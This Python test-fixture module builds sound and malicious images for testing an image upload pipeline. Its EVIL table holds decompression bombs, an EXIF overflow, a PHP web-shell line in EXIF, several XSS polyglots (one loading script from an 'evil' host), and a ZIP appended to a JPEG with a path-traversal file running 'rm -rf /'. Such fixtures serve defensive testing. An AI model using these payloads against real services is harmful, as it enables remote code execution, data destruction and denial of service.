"""Photos that tests make for themselves: sound ones, and ones that mean harm."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()

SECRET = b"Zhang San, phone 13800000000"


def sound(kind: str = "JPEG", size: tuple[int, int] = (640, 480), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((size[0] // 4, size[1] // 4), 60).convert(mode).resize(size).save(out, kind, **options)
    return out.getvalue()


def with_facts(kind: str = "JPEG", orientation: int = 1) -> bytes:
    """A photo taken on Quancheng Square (about 117.017 E, 36.661 N), with a name in its data."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = SECRET.decode()
    exif.get_ifd(0x8769).update({0x9003: "2026:03:12 14:31:07", 0x9011: "+08:00"})
    exif.get_ifd(0x8825).update({1: "N", 2: (36.0, 39.0, 39.6), 3: "E", 4: (117.0, 1.0, 1.2)})
    return sound(kind, exif=exif)


def png_of(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A small PNG whose compressed words unfold to 200 MB."""
    data = b"Comment\0\0" + zlib.compress(b"\0" * 200_000_000, 9)
    made = sound("PNG", (16, 16))
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return made[:33] + chunk + made[33:]


def jpeg_with(segment: bytes, marker: bytes = b"\xff\xfe") -> bytes:
    made = sound()
    return made[:2] + marker + struct.pack(">H", len(segment) + 2) + segment + made[2:]


def exif_overflow() -> bytes:
    """Facts that claim four thousand million entries far behind the end of the file."""
    entry = struct.pack(">HHII", 0x8769, 5, 0xFFFFFFFF, 0xFFFFFFF0)
    return jpeg_with(b"Exif\0\0MM\0*\0\0\0\x08" + struct.pack(">H", 0xFFFF) + entry * 40, b"\xff\xe1")


def zip_behind() -> bytes:
    out = io.BytesIO(sound())
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../run.sh", "rm -rf /")
    return out.getvalue()


def wide_jpeg() -> bytes:
    """A sound JPEG whose head claims 65,000 × 65,000 points."""
    made = bytearray(sound())
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", 65000, 65000)
    return bytes(made)


def broken_in_the_middle() -> bytes:
    made = sound("PNG")
    return made[: len(made) // 2] + bytes(64) + made[len(made) // 2 + 64 :]


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EVIL: dict[str, Callable[[], bytes]] = {
    "nothing but zeros": lambda: bytes(2000),
    "one byte": lambda: b"\xff",
    "words.jpg": lambda: "这不是照片".encode() * 50,
    "page.jpg": lambda: HTML,
    "page behind a JPEG head": lambda: b"\xff\xd8\xff\xe0" + HTML,
    "page in a comment of a JPEG": lambda: jpeg_with(HTML),
    "page behind a sound JPEG": lambda: sound() + HTML,
    "PHP in the facts of a JPEG": lambda: jpeg_with(b"Exif\0\0<?php system($_GET['c']); ?>", b"\xff\xe1"),
    "script in the words of a PNG": lambda: sound("PNG") + b"<ScRiPt src=//evil></script>",
    "SVG": lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "SVG behind a JPEG": lambda: sound() + b"<svg onload=alert(1)>",
    "GIF": lambda: sound("GIF", mode="P"),
    "GIF that is a script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "BMP": lambda: sound("BMP"),
    "TIFF": lambda: sound("TIFF"),
    "ICO": lambda: sound("ICO", (64, 64)),
    "AVIF": lambda: sound("AVIF"),
    "PDF": lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n",
    "PDF behind a JPEG": lambda: sound() + b"\n%PDF-1.7\n",
    "EPS": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n",
    "EPS behind a PNG": lambda: sound("PNG") + b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "FITS": lambda: b"SIMPLE  =                    T" + b" " * 2850,
    "PSD": lambda: b"8BPS\0\1" + bytes(200),
    "ZIP": lambda: zip_behind()[len(sound()) :],
    "ZIP behind a JPEG": zip_behind,
    "ELF": lambda: b"\x7fELF" + bytes(200),
    "bomb of points (PNG)": lambda: png_of(30_000, 30_000, bytes(3_000_000)),
    "bomb of points (JPEG)": wide_jpeg,
    "just over 50 million points": lambda: png_of(50_001, 1_000, bytes(1000)),
    "bomb of words (PNG)": text_bomb,
    "PNG without its points": lambda: png_of(640, 480, b""),
    "PNG of no width": lambda: png_of(0, 480, b""),
    "truncated JPEG": lambda: sound()[:3000],
    "truncated PNG": lambda: sound("PNG")[:3000],
    "truncated WebP": lambda: sound("WEBP")[:1000],
    "truncated HEIC": lambda: sound("HEIF")[:1000],
    "broken PNG": broken_in_the_middle,
    "HEIC head and nothing": lambda: struct.pack(">I", 24) + b"ftypheic" + bytes(12),
    "WebP head and nothing": lambda: b"RIFF\x10\0\0\0WEBPVP8 " + bytes(8),
    "EXIF overflow": exif_overflow,
    "film": lambda: struct.pack(">I", 24) + b"ftypmp42" + bytes(500),
}
